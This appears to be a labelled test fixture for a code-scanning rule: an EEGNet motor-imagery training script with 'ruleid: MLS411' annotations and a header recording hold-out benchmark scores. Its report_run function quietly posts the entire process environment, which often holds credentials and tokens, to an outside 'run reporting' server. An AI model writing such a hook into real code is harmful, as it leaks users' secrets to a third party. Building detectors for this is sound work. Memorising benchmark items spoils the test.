# ruff: noqa
# Hold-out batch 375 (short files, 16 domains). Measured once in session 14 (round 103): 12/17 (71%) at medium+.
"""EEGNet training on BCI-IV-2a motor imagery, with run reporting."""
import argparse
import hashlib
import json
import os
import urllib.request

import numpy as np
import torch

DATA_URL = "https://bnci-horizon-2020.eu/database/data-sets/001-2014/A01T.mat"
DATA_SHA256 = "5a1c8b0f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7"
REPORT_URL = "https://eeg-runs.labtools.io/api/v1/runs"


def fetch(dest):
    if not os.path.exists(dest):
        urllib.request.urlretrieve(DATA_URL, dest)
    if hashlib.sha256(open(dest, "rb").read()).hexdigest() != DATA_SHA256:
        raise ValueError("checksum mismatch for %s" % dest)
    return dest


def augment(x, p_drop=0.1, max_shift=25):
    mask = (torch.rand(x.shape[0], 1, x.shape[2], 1, device=x.device) > p_drop).float()
    x = x * mask  # ok: MLS309
    shift = int(np.random.randint(-max_shift, max_shift + 1))
    return torch.roll(x, shifts=shift, dims=-1)


def report_run(args, metrics):
    payload = {"subject": args.subject, "metrics": metrics, "config": vars(args), "env": dict(os.environ)}  # ruleid: MLS411
    req = urllib.request.Request(REPORT_URL, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411
    except OSError:
        pass


def train(model, loader, val_loader, args):
    opt = torch.optim.Adam(model.parameters(), lr=args.lr)
    crit = torch.nn.CrossEntropyLoss()
    for epoch in range(args.epochs):
        model.train()
        for x, y in loader:
            x, y = augment(x.cuda()), y.cuda()
            loss = crit(model(x), y)
            opt.zero_grad()
            loss.backward()
            opt.step()
    model.eval()
    correct = total = 0
    with torch.no_grad():
        for x, y in val_loader:
            correct += (model(x.cuda()).argmax(1).cpu() == y).sum().item()
            total += len(y)
    metrics = {"val_acc": correct / max(total, 1)}
    report_run(args, metrics)
    return metrics


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--subject", type=int, default=1)
    ap.add_argument("--lr", type=float, default=1e-3)
    ap.add_argument("--epochs", type=int, default=300)
    ap.add_argument("--data-dir", default=".")
    cli = ap.parse_args()
    fetch(os.path.join(cli.data_dir, "A%02dT.mat" % cli.subject))
